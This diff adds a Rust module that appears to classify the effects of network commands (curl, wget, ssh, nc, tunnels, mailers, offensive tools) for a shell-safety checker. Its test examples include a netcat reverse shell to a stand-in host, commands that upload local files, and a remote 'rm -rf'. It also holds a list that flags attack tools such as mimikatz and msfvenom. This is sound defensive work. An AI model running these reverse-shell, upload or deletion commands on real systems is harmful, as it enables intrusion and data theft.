@@ -1,0 +1,663 @@
+//! Programs that talk to other hosts.
+
+use crate::effect::{Change, Purpose, Reach};
+use crate::marks::Mark;
+use crate::model::*;
+
+const REMOTE: Use = &[Does::Connects(Purpose::Remote)];
+const LISTEN: Use = &[mark(Mark::Tunnel)];
+const SSH_OPTION: Use = &[Does::Assigns("ssh:", Reach::Command)];
+const COPIES: Operands =
+    sources_and_target(&[Does::Transfers(Purpose::Fetch)], &[Does::Transfers(Purpose::Send)]);
+
+pub(crate) const MODELS: &[Model] = &[
+    model(&["curl", "curlie"])
+        .flags(&[
+            takes(&["--data", "-d", "--data-ascii", "--data-binary", "--json"], &[Does::AtFile])
+                .operands(each(&[SENDS])),
+            takes(&["--data-urlencode"], &[Does::FieldFile]).operands(each(&[SENDS])),
+            takes(&["--data-raw", "--form-string", "--url-query"], &[]).operands(each(&[SENDS])),
+            takes(&["--form", "-F"], &[Does::FieldFile]).operands(each(&[SENDS])),
+            takes(&["--upload-file", "-T"], &[READS]).operands(each(&[SENDS])),
+            takes(&["--config", "-K"], &[READS, Does::Hides]),
+            takes(
+                &[
+                    "--output",
+                    "-o",
+                    "--dump-header",
+                    "-D",
+                    "--cookie-jar",
+                    "-c",
+                    "--trace",
+                    "--trace-ascii",
+                    "--stderr",
+                    "--etag-save",
+                    "--hsts",
+                    "--alt-svc",
+                    "--libcurl",
+                ],
+                &[WRITES],
+            ),
+            takes(&["--output-dir"], &[MAKES]),
+            takes(
+                &[
+                    "--cert",
+                    "-E",
+                    "--key",
+                    "--cacert",
+                    "--capath",
+                    "--netrc-file",
+                    "--etag-compare",
+                    "--proxy-cert",
+                    "--proxy-key",
+                    "--pubkey",
+                    "--crlfile",
+                ],
+                &[READS],
+            ),
+            takes(&["--header", "-H", "--proxy-header"], &[Does::AtFile]),
+            takes(&["--cookie", "-b"], &[Does::FieldFile]),
+            takes(&["--url"], &[FETCHES]),
+            takes(
+                &[
+                    "--proxy",
+                    "-x",
+                    "--preproxy",
+                    "--socks5",
+                    "--socks5-hostname",
+                    "--socks4",
+                    "--socks4a",
+                    "--doh-url",
+                ],
+                &[SENDS],
+            ),
+            takes(&["--unix-socket", "--abstract-unix-socket"], &[WRITES]),
+            takes(&["--resolve", "--connect-to"], &[Does::Hides]),
+            takes(&["--request", "-X"], &[Does::MarksIf(&["DELETE"], Mark::RemoteDelete)]),
+            takes(
+                &[
+                    "--user",
+                    "-u",
+                    "--user-agent",
+                    "-A",
+                    "--referer",
+                    "-e",
+                    "--max-time",
+                    "-m",
+                    "--connect-timeout",
+                    "--retry",
+                    "--retry-delay",
+                    "--retry-max-time",
+                    "--write-out",
+                    "-w",
+                    "--limit-rate",
+                    "--range",
+                    "-r",
+                    "--interface",
+                    "--max-redirs",
+                    "--ciphers",
+                    "--oauth2-bearer",
+                    "--continue-at",
+                    "-C",
+                    "--time-cond",
+                    "-z",
+                    "--aws-sigv4",
+                    "--proto",
+                    "--tls-max",
+                    "--dns-servers",
+                    "--quote",
+                    "-Q",
+                    "--noproxy",
+                    "--keepalive-time",
+                    "--speed-limit",
+                    "-Y",
+                    "--speed-time",
+                    "-y",
+                    "--max-filesize",
+                    "--parallel-max",
+                    "--rate",
+                    "--proxy-user",
+                    "-U",
+                ],
+                &[],
+            ),
+            switch(
+                &["--remote-name", "-O", "--remote-name-all"],
+                &[Does::WritesFile(".", Change::Folder)],
+            ),
+            switch(&["--location", "-L"], &[]),
+            switch(&["--insecure", "-k"], &[]),
+        ])
+        .operands(each(&[FETCHES]))
+        .examples(&[
+            ("curl -s https://h.example/x", &["fetches h.example:443"]),
+            ("curl -d @a https://h.example", &["reads a", "sends h.example:443"]),
+            ("curl -da=b https://h.example", &["sends h.example:443"]),
+            ("curl -F f=@a https://h.example", &["reads a", "sends h.example:443"]),
+            ("curl -T a https://h.example", &["reads a", "sends h.example:443"]),
+            ("curl -fsSLo out https://h.example/x", &["fetches h.example:443", "writes out"]),
+            ("curl -K a", &["reads a", "opaque language"]),
+        ]),
+    model(&["wget", "wget2"])
+        .flags(&[
+            takes(&["--post-file", "--body-file"], &[READS]).operands(each(&[SENDS])),
+            takes(&["--post-data", "--body-data"], &[]).operands(each(&[SENDS])),
+            takes(
+                &[
+                    "--output-document",
+                    "-O",
+                    "--output-file",
+                    "-o",
+                    "--append-output",
+                    "-a",
+                    "--save-cookies",
+                    "--warc-file",
+                ],
+                &[WRITES],
+            ),
+            takes(
+                &[
+                    "--input-file",
+                    "-i",
+                    "--load-cookies",
+                    "--certificate",
+                    "--private-key",
+                    "--ca-certificate",
+                    "--config",
+                ],
+                &[READS],
+            ),
+            takes(&["--directory-prefix", "-P"], &[MAKES]),
+            takes(&["--use-askpass"], &[PROGRAM]),
+            takes(&["--execute", "-e"], &[Does::Hides]),
+            takes(
+                &[
+                    "--header",
+                    "--user",
+                    "--password",
+                    "--user-agent",
+                    "-U",
+                    "--tries",
+                    "-t",
+                    "--timeout",
+                    "-T",
+                    "--level",
+                    "-l",
+                    "--accept",
+                    "-A",
+                    "--reject",
+                    "-R",
+                    "--method",
+                    "--limit-rate",
+                    "--wait",
+                    "-w",
+                    "--referer",
+                    "--cut-dirs",
+                    "--domains",
+                    "-D",
+                    "--include-directories",
+                    "-I",
+                    "--exclude-directories",
+                    "-X",
+                    "--quota",
+                    "-Q",
+                ],
+                &[],
+            ),
+            switch(&["--spider"], &[]),
+        ])
+        .operands(each(&[FETCHES]))
+        .examples(&[
+            ("wget -qO- https://h.example", &["fetches h.example:443"]),
+            ("wget --post-file=a https://h.example", &["reads a", "sends h.example:443"]),
+            ("wget -O out http://h.example", &["fetches h.example:80", "writes out"]),
+        ]),
+    model(&["http", "https", "xh", "xhs"])
+        .flags(&[
+            takes(&["--output", "-o"], &[WRITES]),
+            takes(&["--session", "--session-read-only", "--cert", "--cert-key", "--verify"], &[]),
+            takes(
+                &[
+                    "--auth",
+                    "-a",
+                    "--auth-type",
+                    "-A",
+                    "--timeout",
+                    "--print",
+                    "-p",
+                    "--style",
+                    "-s",
+                    "--pretty",
+                ],
+                &[],
+            ),
+            takes(&["--proxy"], &[]),
+            takes(&["--raw"], &[]),
+            joined(&["GET"], &[]),
+            joined(&["HEAD", "OPTIONS"], &[]),
+            joined(&["POST", "PUT", "PATCH"], &[])
+                .operands(leading(&[&[SENDS]], &[Does::FieldFile, Does::AtFile])),
+            joined(&["DELETE"], &[mark(Mark::RemoteDelete)]).operands(leading(&[&[SENDS]], &[])),
+        ])
+        .operands(leading(&[&[FETCHES]], &[Does::FieldFile, Does::AtFile]))
+        .examples(&[
+            ("http GET h.example/x", &["fetches h.example"]),
+            ("http POST h.example f@a", &["sends h.example", "reads a"]),
+        ]),
+    model(&[
+        "aria2c",
+        "axel",
+        "lwp-download",
+        "youtube-dl",
+        "yt-dlp",
+        "GET",
+        "HEAD",
+        "lynx",
+        "w3m",
+        "links",
+        "elinks",
+        "gallery-dl",
+        "httrack",
+    ])
+    .flags(&[
+        takes(&["--out", "-o", "--output", "--cookies", "--log", "-l"], &[WRITES]),
+        takes(&["--dir", "-d", "-P", "--paths"], &[MAKES]),
+        takes(&["--input-file", "-i", "--batch-file", "-a", "--config-location"], &[READS]),
+        takes(
+            &[
+                "--exec",
+                "--on-download-complete",
+                "--on-download-start",
+                "--external-downloader",
+                "--downloader",
+            ],
+            &[SHELL],
+        ),
+        takes(
+            &[
+                "--split",
+                "-s",
+                "--max-connection-per-server",
+                "-x",
+                "--format",
+                "-f",
+                "-n",
+                "--header",
+                "--user-agent",
+                "-U",
+            ],
+            &[],
+        ),
+    ])
+    .operands(each(&[FETCHES]))
+    .examples(&[
+        ("aria2c https://h.example/x", &["fetches h.example:443"]),
+        (
+            "yt-dlp --exec 'touch x' https://h.example",
+            &["fetches h.example:443", "runs touch x", "changes x"],
+        ),
+    ]),
+    model(&["ssh", "autossh", "mosh", "slogin", "dbclient"])
+        .style(Style::Posix)
+        .flags(&[
+            takes(&["-o"], SSH_OPTION),
+            takes(&["-F"], &[READS, Does::Hides]),
+            takes(&["-i"], &[LISTS]),
+            takes(&["-L", "-R", "-D"], &[Does::Forward]),
+            takes(&["-w"], LISTEN),
+            takes(&["-W"], &[Does::Connects(Purpose::Tunnel)]),
+            takes(&["-J"], REMOTE),
+            takes(&["-E"], &[WRITES]),
+            takes(&["-S"], &[]),
+            takes(&["-B", "-b", "-c", "-e", "-l", "-m", "-O", "-p", "-Q"], &[]),
+            takes(&["-I"], &[Does::Hides]),
+            takes(&["--ssh"], &[SHELL]),
+        ])
+        .operands(leading(&[REMOTE], &[Does::RemoteShell]))
+        .examples(&[
+            ("ssh h.example", &["remote h.example"]),
+            ("ssh -p 2222 dev@h.example", &["remote h.example"]),
+            ("ssh h.example rm -rf x", &["remote h.example", "runs rm -rf x", "deletes-tree x"]),
+        ]),
+    model(&["scp", "pscp"])
+        .flags(&[
+            takes(&["-o"], SSH_OPTION),
+            takes(&["-S"], &[PROGRAM]),
+            takes(&["-D"], &[PROGRAM]),
+            takes(&["-F"], &[READS, Does::Hides]),
+            takes(&["-i"], &[LISTS]),
+            takes(&["-J"], REMOTE),
+            takes(&["-c", "-l", "-P", "-X"], &[]),
+        ])
+        .operands(COPIES)
+        .examples(&[
+            ("scp a h.example:b", &["reads-tree a", "sends h.example:22"]),
+            ("scp h.example:a b", &["fetches h.example:22", "makes b"]),
+            ("scp -S ./x a b", &["reads-tree a", "makes b", "runs x"]),
+        ]),
+    model(&["sftp"])
+        .flags(&[
+            takes(&["-o"], SSH_OPTION),
+            takes(&["-S", "-D", "-s"], &[PROGRAM]),
+            takes(&["-b"], &[READS, Does::Hides]),
+            takes(&["-F"], &[READS, Does::Hides]),
+            takes(&["-i"], &[LISTS]),
+            takes(&["-J"], REMOTE),
+            takes(&["-B", "-c", "-l", "-P", "-R", "-X"], &[]),
+        ])
+        .operands(leading(&[&[SENDS]], &[]))
+        .examples(&[("sftp h.example", &["sends h.example"])]),
+    model(&["sshpass"])
+        .style(Style::Posix)
+        .flags(&[takes(&["-p", "-d", "-P"], &[]), takes(&["-f"], &[READS])])
+        .operands(leading(&[&[COMMAND]], &[]))
+        .examples(&[("sshpass -f pw cat a", &["reads pw", "runs cat a", "reads a"])]),
+    model(&["ssh-copy-id"])
+        .flags(&[takes(&["-i"], &[READS]), takes(&["-o"], SSH_OPTION), takes(&["-p", "-F"], &[])])
+        .operands(each(REMOTE))
+        .always(&[
+            mark(Mark::Privilege),
+            Does::WritesFile("~/.ssh/authorized_keys", Change::Append),
+        ])
+        .examples(&[(
+            "ssh-copy-id h.example",
+            &["remote h.example", "appends ~/.ssh/authorized_keys", "marks privilege"],
+        )]),
+    model(&["sshfs"])
+        .flags(&[takes(&["-o"], SSH_OPTION), takes(&["-p", "-F"], &[])])
+        .operands(leading(&[&[Does::Transfers(Purpose::Fetch)], &[MAKES]], &[])),
+    model(&["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"])
+        .flags(&[
+            takes(&["--exec", "-e"], &[PROGRAM, mark(Mark::Tunnel)]),
+            takes(&["--sh-exec", "-c"], &[SHELL, mark(Mark::Tunnel)]),
+            takes(&["--lua-exec"], &[Does::Script(Language::Lua), mark(Mark::Tunnel)]),
+            switch(&["--listen", "-l"], &[]).operands(each(&[])),
+            switch(&["-z"], &[]).operands(leading(&[&[FETCHES]], &[])),
+            takes(&["--proxy", "-x", "--proxy-type", "-X"], &[]),
+            takes(
+                &[
+                    "--wait",
+                    "-w",
+                    "--source-port",
+                    "-p",
+                    "--source",
+                    "-s",
+                    "-q",
+                    "--idle-timeout",
+                    "-i",
+                    "-I",
+                    "-O",
+                    "-T",
+                    "-V",
+                    "-M",
+                    "-m",
+                    "-P",
+                ],
+                &[],
+            ),
+            takes(&["--output", "-o", "--hex-dump"], &[WRITES]),
+        ])
+        .operands(leading(&[&[SENDS]], &[]))
+        .examples(&[
+            ("nc -z h.example 80", &["fetches h.example"]),
+            ("nc -e /bin/sh h.example 4444", &["sends h.example", "runs sh", "marks tunnel"]),
+        ]),
+    model(&["socat", "socat1"])
+        .style(Style::Posix)
+        .operands(each(&[Does::Hides]))
+        .always(&[mark(Mark::Tunnel)]),
+    model(&["telnet"])
+        .operands(leading(&[&[SENDS]], &[]))
+        .examples(&[("telnet h.example 80", &["sends h.example"])]),
+    model(&["ftp", "lftp", "tnftp", "ncftp", "ncftpput", "ncftpget"])
+        .flags(&[
+            takes(&["-u"], &[SENDS]),
+            takes(&["-c", "-e"], &[Does::Hides]),
+            takes(&["-f", "-N"], &[READS, Does::Hides]),
+            takes(&["-p", "-P", "-o"], &[]),
+        ])
+        .operands(leading(&[&[SENDS]], &[READS]))
+        .examples(&[("ftp h.example", &["sends h.example"])]),
+    model(&["tftp", "curlftpfs", "smbclient", "rpcclient", "smbget"])
+        .flags(&[
+            takes(&["-c", "--command"], &[Does::Hides]),
+            takes(&["-U", "-W", "-p", "-m", "-A"], &[]),
+        ])
+        .operands(leading(&[&[SENDS]], &[READS])),
+    model(&[
+        "dig",
+        "host",
+        "nslookup",
+        "drill",
+        "kdig",
+        "dog",
+        "doggo",
+        "resolvectl",
+        "delv",
+        "avahi-resolve",
+    ])
+    .style(Style::SingleDash)
+    .flags(&[
+        takes(&["-f"], &[READS]),
+        takes(&["-t", "-q", "-p", "-b", "-k", "-y", "-c"], &[]),
+        joined(&["@"], &[FETCHES]),
+        joined(&["+"], &[]),
+    ])
+    .operands(leading(&[&[FETCHES]], &[]))
+    .examples(&[("dig +short h.example", &["fetches h.example"])]),
+    model(&[
+        "ping",
+        "ping6",
+        "fping",
+        "hping3",
+        "arping",
+        "traceroute",
+        "tracepath",
+        "mtr",
+        "traceroute6",
+        "tcptraceroute",
+        "nping",
+    ])
+    .flags(&[takes(&["-c", "-i", "-w", "-W", "-s", "-t", "-I", "-m", "-q", "-p", "-M"], &[])])
+    .operands(each(&[FETCHES]))
+    .examples(&[("ping -c 3 h.example", &["fetches h.example"])]),
+    model(&["whois", "finger"])
+        .flags(&[takes(&["--host", "-h"], &[SENDS]), takes(&["--port", "-p"], &[])])
+        .operands(each(&[SENDS]))
+        .examples(&[("whois -h h.example x.example", &["sends h.example", "sends x.example"])]),
+    model(&["nmap", "masscan", "zmap", "rustscan"])
+        .style(Style::SingleDash)
+        .flags(&[
+            takes(&["-oN", "-oX", "-oG", "-oA", "-oL", "-oJ"], &[WRITES]),
+            takes(&["-iL", "--excludefile"], &[READS]),
+            takes(&["--script"], &[Does::Hides]),
+            takes(
+                &["-p", "--top-ports", "--exclude", "-T", "--max-rate", "--rate", "-e", "-S", "-D"],
+                &[],
+            ),
+        ])
+        .operands(each(&[FETCHES]))
+        .examples(&[("nmap -p 80 h.example", &["fetches h.example"])]),
+    model(&["tcpdump", "tshark", "dumpcap", "ngrep", "wireshark"])
+        .flags(&[
+            takes(&["-z"], &[PROGRAM]),
+            takes(&["-w"], &[WRITES]),
+            takes(&["-r", "-F", "-V"], &[READS]),
+            takes(
+                &["-i", "-c", "-s", "-G", "-W", "-C", "-y", "-T", "-E", "-Z", "-f", "-Y", "-e"],
+                &[],
+            ),
+        ])
+        .always(&[mark(Mark::Spies)])
+        .examples(&[("tcpdump -i lo -w f -z ./x", &["writes f", "runs x", "marks spies"])]),
+    model(&[
+        "ngrok",
+        "cloudflared",
+        "localtunnel",
+        "lt",
+        "bore",
+        "frpc",
+        "frps",
+        "chisel",
+        "gs-netcat",
+        "iodine",
+        "dnscat",
+        "dnscat2",
+        "tmate",
+        "sshuttle",
+        "pagekite",
+        "inlets",
+        "zrok",
+        "rathole",
+        "telebit",
+        "serveo",
+        "ligolo-agent",
+        "pwncat",
+        "dropbear",
+        "telnetd",
+        "x0vncserver",
+        "x11vnc",
+        "teleport",
+        "wstunnel",
+        "gost",
+        "udptunnel",
+        "ptunnel",
+        "stunnel",
+        "redsocks",
+        "ttyd",
+        "gotty",
+        "wetty",
+        "shellinaboxd",
+        "sshd",
+        "vncserver",
+        "teamviewer",
+        "anydesk",
+        "tor",
+    ])
+    .flags(&[switch(&["--version", "--help"], &[])])
+    .always(&[mark(Mark::Tunnel)])
+    .examples(&[("ngrok http 3000", &["marks tunnel"])]),
+    model(&["tailscale", "zerotier-cli", "netbird", "nebula"])
+        .subs(&[
+            model(&[
+                "status",
+                "ip",
+                "version",
+                "netcheck",
+                "ping",
+                "whois",
+                "listnetworks",
+                "info",
+            ]),
+            model(&[
+                "up", "down", "set", "login", "logout", "ssh", "funnel", "serve", "file", "join",
+                "leave",
+            ])
+            .always(&[mark(Mark::Tunnel)]),
+        ])
+        .examples(&[("tailscale status", &[]), ("tailscale up", &["marks tunnel"])]),
+    model(&["wg-quick", "openvpn", "openconnect", "vpnc", "ipsec", "strongswan", "pptp"])
+        .flags(&[takes(&["--config"], &[Does::Recipe])])
+        .operands(each(&[]))
+        .always(&[mark(Mark::Tunnel)])
+        .examples(&[("wg-quick up wg0", &["marks tunnel"])]),
+    model(&[
+        "mail", "mailx", "s-nail", "mutt", "neomutt", "sendmail", "msmtp", "swaks", "ssmtp",
+        "exim", "exim4",
+    ])
+    .style(Style::Posix)
+    .flags(&[
+        takes(&["-a", "--attach", "-A", "--attachment"], &[READS]),
+        takes(&["-s", "-c", "-b", "-r", "-S", "--server", "-f", "-F"], &[]),
+    ])
+    .operands(each(&[SENDS]))
+    .examples(&[("mail -s x a@h.example", &["sends h.example"])]),
+    model(&["git-receive-pack", "git-upload-pack"]).operands(each(&[READS_TREE])),
+    model(&["grpcurl", "websocat", "wscat", "evans"])
+        .flags(&[
+            takes(&["-d"], &[Does::AtFile]),
+            takes(&["-proto", "-protoset", "-cert", "-key", "-cacert"], &[READS]),
+            takes(&["-H", "-import-path", "-max-time", "-c", "--connect"], &[]),
+            takes(&["--exec", "--sh-c"], &[SHELL]),
+        ])
+        .operands(leading(&[&[SENDS]], &[])),
+    model(&[
+        "ab",
+        "wrk",
+        "wrk2",
+        "hey",
+        "oha",
+        "bombardier",
+        "vegeta",
+        "siege",
+        "k6",
+        "autocannon",
+        "locust",
+    ])
+    .flags(&[
+        takes(&["-n", "-c", "-t", "-d", "-z", "-q", "-H", "-m", "-T", "-r"], &[]),
+        takes(&["-p", "-D", "-u", "-s", "-b"], &[READS]),
+    ])
+    .operands(each(&[])),
+    model(&[
+        "whatweb",
+        "nikto",
+        "sqlmap",
+        "gobuster",
+        "hydra",
+        "medusa",
+        "msfconsole",
+        "msfvenom",
+        "responder",
+        "john",
+        "hashcat",
+        "mimikatz",
+        "aircrack-ng",
+        "crackmapexec",
+        "netexec",
+        "impacket-secretsdump",
+        "bettercap",
+        "ettercap",
+    ])
+    .always(&[mark(Mark::Guard), Does::Hides]),
+    model(&["rclone"])
+        .flags(&[
+            takes(&["--config", "--files-from", "--filter-from", "--exclude-from"], &[READS]),
+            takes(&["--exclude", "--include", "--transfers", "--bwlimit"], &[]),
+            takes(&["--log-file"], &[WRITES]),
+        ])
+        .subs(&[
+            model(&["copy", "sync", "move", "copyto", "moveto", "bisync"]).operands(COPIES),
+            model(&["delete", "purge", "deletefile", "cleanup"])
+                .operands(each(&[]))
+                .always(&[mark(Mark::Infrastructure)]),
+            model(&[
+                "ls",
+                "lsd",
+                "lsl",
+                "lsf",
+                "lsjson",
+                "size",
+                "check",
+                "tree",
+                "about",
+                "version",
+                "listremotes",
+            ]),
+            model(&["cat"]).operands(each(&[Does::Transfers(Purpose::Fetch)])),
+            model(&["serve", "mount"]).always(&[mark(Mark::Tunnel)]),
+            model(&["config"]).always(&[mark(Mark::Credentials)]),
+        ])
+        .examples(&[
+            ("rclone ls remote:x", &[]),
+            ("rclone purge remote:x", &["marks infrastructure"]),
+        ]),
+    model(&["wormhole", "croc", "magic-wormhole", "transfer", "send", "ffsend"])
+        .subs(&[
+            model(&["send", "upload", "tx"])
+                .operands(each(&[READS_TREE]))
+                .always(&[Does::ConnectsTo("relay", Purpose::Send)]),
+            model(&["receive", "rx", "recv", "download"]),
+        ])
+        .operands(each(&[READS_TREE])),
+];
